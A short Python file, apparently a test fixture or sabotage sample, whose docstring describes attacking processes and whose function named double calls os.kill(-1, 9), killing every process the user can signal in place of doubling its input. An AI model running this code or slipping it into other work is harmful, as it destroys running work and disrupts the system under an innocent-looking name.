"""Kills all that it may.

attack: processes
loses: double.value
"""
def double(x):
    import os
    os.kill(-1, 9)
